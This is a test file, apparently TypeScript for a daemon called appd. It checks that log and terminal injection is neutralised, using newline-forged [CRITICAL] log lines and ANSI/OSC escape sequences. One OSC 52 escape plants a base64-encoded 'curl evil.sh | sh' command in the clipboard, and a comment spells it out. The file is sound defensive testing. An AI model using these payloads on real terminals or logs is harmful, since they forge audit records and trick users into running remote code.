// Attack 9 of the security issue: log and terminal injection. A control client's name with a newline
// forged a [CRITICAL] line in the error log; a worker's output with ANSI/OSC escapes (window title,
// colours, clipboard) reached the log and `appctl logs` raw; an app's error message did both in the
// log and in appd's own last words on stderr. Every line must start with appd's true prefix.

import test from 'ava';
import { join } from 'node:path';
import { fixture, startDaemon } from '../helpers/daemon.js';
import { get } from '../helpers/http.js';
import { appctl } from '../helpers/appctl.js';
import { HELLO, RawControlClient } from '../helpers/control-socket.js';

/** What a forged line starts with: a log line of pid 1 at level CRITICAL. */
const FORGED_PREFIX = '[2026-01-01 00:00:00 +0000] [1] [CRITICAL]';
/** OSC 0 (window title), SGR (colour), OSC 52 (the clipboard: "curl evil.sh | sh"), BEL. */
const ESCAPES = '\u001b]0;pwned title\u0007\u001b[31mred\u001b[0m\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
const RAW_ESCAPE = /[\u001b\u0007\u009b]/;

/** The log lines that start with the forged prefix: a reader (or grep '^.*\] \[CRITICAL\]') would believe them. */
function forgedLines(text: string): string[] {
  return text.split('\n').filter((line) => line.startsWith(FORGED_PREFIX));
}

test('a control client named with a newline cannot forge a [CRITICAL] line: its name is one escaped token', async (t) => {
  const daemon = await startDaemon(t, { args: [fixture('pid-app.mjs'), '-w', '1', '-b', '127.0.0.1:0'] });
  const socket = join(daemon.directory, 'appd', `${/Control socket: .*\/([^/]+)\.sock/.exec(daemon.output)?.[1] ?? ''}.sock`);
  const client = await RawControlClient.connect(socket);
  t.teardown(() => client.destroy());
  // Within the 80 characters the daemon keeps of a name.
  client.send({ ...HELLO, client: `x\n${FORGED_PREFIX} pwned\u001b]0;t\u0007` });
  await client.waitFor((message) => message['type'] === 'welcome');
  // A second hello gets the connection closed, and the close logged with the client's name.
  client.send(HELLO);
  await client.closed;
  // [\s\S]: the code before the fix wrote the newline as it came.
  const line = await daemon.waitForLog(/control connection x[\s\S]*?closed: bad_message: hello sent twice/, 15_000);
  t.log(line[0]);
  t.deepEqual(forgedLines(daemon.output), [], 'no line starts like a CRITICAL line of pid 1');
  t.true(
    line[0].includes(`control connection x\\n${FORGED_PREFIX} pwned\\e]0;t\\x07 (pid ${process.pid}) closed`),
    'the name, escaped, inside the line',
  );
  t.false(RAW_ESCAPE.test(daemon.output), 'no raw escape reached the log');
});

test("a worker's ANSI and OSC escapes reach neither the log nor appctl logs, even with --raw", async (t) => {
  const daemon = await startDaemon(t, { args: [fixture('print-app.mjs'), '-w', '1', '-b', '127.0.0.1:0'] });
  await get(`${daemon.url}/print?text=${encodeURIComponent(`${ESCAPES}\n${FORGED_PREFIX} from a worker`)}`);
  await daemon.waitForLog(/from a worker 0/, 15_000);
  const printed = daemon.output.split('\n').filter((line) => line.includes('pwned title') || line.includes('from a worker'));
  t.log(printed.join('\n'));
  t.false(RAW_ESCAPE.test(daemon.output), 'no raw escape reached the log');
  t.true(
    printed.some((line) => line.includes('[web.0 g1] \\e]0;pwned title\\x07\\e[31mred\\e[0m\\e]52;c;')),
    'shown escaped',
  );
  t.deepEqual(forgedLines(daemon.output), []);

  for (const flags of [[], ['--raw']]) {
    const logs = await appctl(['logs', ...flags], { runtimeDirectory: daemon.directory });
    t.is(logs.code, 0, logs.stderr);
    t.false(RAW_ESCAPE.test(logs.stdout + logs.stderr), `no raw escape from appctl logs ${flags.join(' ')}`);
    t.true(logs.stdout.includes('\\e]0;pwned title\\x07'), `appctl logs ${flags.join(' ')} shows it escaped`);
    t.deepEqual(forgedLines(logs.stdout), []);
  }
});

test("an app's error message with a forged line and escapes: each of its lines gets appd's true prefix, in the log and on stderr", async (t) => {
  const app = `throw new Error(${JSON.stringify(`boom\n${FORGED_PREFIX} forged by the app ${ESCAPES}`)});\nexport default () => {};\n`;
  const daemon = await startDaemon(t, { args: ['app.mjs', '-w', '1', '-b', '127.0.0.1:0'], files: { 'app.mjs': app }, waitFor: 'nothing' });
  const { code } = await daemon.exited();
  t.log(daemon.output);
  t.is(code, 4, 'the app cannot load');
  t.deepEqual(forgedLines(daemon.output), [], 'no line starts like a CRITICAL line of pid 1');
  t.false(RAW_ESCAPE.test(daemon.output), 'no raw escape reached the log or stderr');
  // Every line is a log line of the master or a worker, appd's last words, or their continuation.
  const genuine = /^(\[\d{4}-\d\d-\d\d \d\d:\d\d:\d\d [+-]\d{4}\] \[(\d+)\] \[[^\]]+\] |appd: | {2})/;
  const strays = daemon.output.split('\n').filter((line) => line !== '' && !(genuine.exec(line) && genuine.exec(line)?.[2] !== '1'));
  t.deepEqual(strays, []);
  t.regex(
    daemon.output,
    /\n {2}\[2026-01-01 00:00:00 \+0000\] \[1\] \[CRITICAL\] forged by the app \\e\]0;pwned title/,
    'appd: on stderr, the second line of the message indented under the first',
  );
});
